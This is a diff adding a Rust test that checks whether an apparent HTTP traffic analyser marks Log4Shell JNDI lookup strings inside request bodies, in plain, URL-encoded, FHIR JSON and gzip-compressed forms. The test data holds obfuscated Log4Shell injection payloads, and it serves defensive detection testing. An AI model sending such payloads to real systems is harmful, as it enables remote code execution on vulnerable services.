@@ -475,3 +475,44 @@ fn exploits_are_marked_and_not_kept() {
         assert!(!format!("{rows:?}").contains("10.9.9.9"), "{rows:?}");
     }
 }
+
+#[test]
+fn exploits_in_bodies_of_requests_are_marked() {
+    let gzip = |text: &str| {
+        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+        std::io::Write::write_all(&mut gzip, text.as_bytes()).unwrap();
+        gzip.finish().unwrap()
+    };
+    let patient = "{\"resourceType\":\"Patient\",\"name\":[{\"family\":\"${${lower:j}ndi:ldap://x}\"}]}";
+    let plain = "{\"resourceType\":\"Patient\",\"name\":[{\"family\":\"ZZTEST\"}]}";
+    for (head, body, marks) in [
+        (
+            "Content-Type: application/x-www-form-urlencoded",
+            b"user=%24%7bjndi%3aldap%3a%2f%2fx%7d".to_vec(),
+            "[exploit-log4shell]",
+        ),
+        ("Content-Type: application/fhir+json", patient.into(), "[exploit-log4shell]"),
+        ("Content-Type: application/fhir+json", plain.into(), "[]"),
+        (
+            "Content-Type: application/json; charset=utf-8\r\nContent-Encoding: gzip",
+            gzip(patient),
+            "[exploit-log4shell]",
+        ),
+        ("Content-Type: text/plain", patient.into(), "[]"),
+    ] {
+        let length = body.len();
+        let request = [
+            format!("POST /fhir/Patient HTTP/1.1\r\n{head}\r\nContent-Length: {length}\r\n\r\n").as_bytes(),
+            &body,
+        ]
+        .concat();
+        let answer = [
+            format!("HTTP/1.1 200 OK\r\n{head}\r\nContent-Length: {length}\r\n\r\n").as_bytes(),
+            &body,
+        ]
+        .concat();
+        let get = b"GET /fhir/Patient/1 HTTP/1.1\r\n\r\n";
+        let rows = http(&[(Orig, &request), (Resp, &answer), (Orig, get), (Resp, &answer)]);
+        assert_eq!([&rows[0]["marks"], &rows[1]["marks"]], [marks, "[]"], "{head}");
+    }
+}
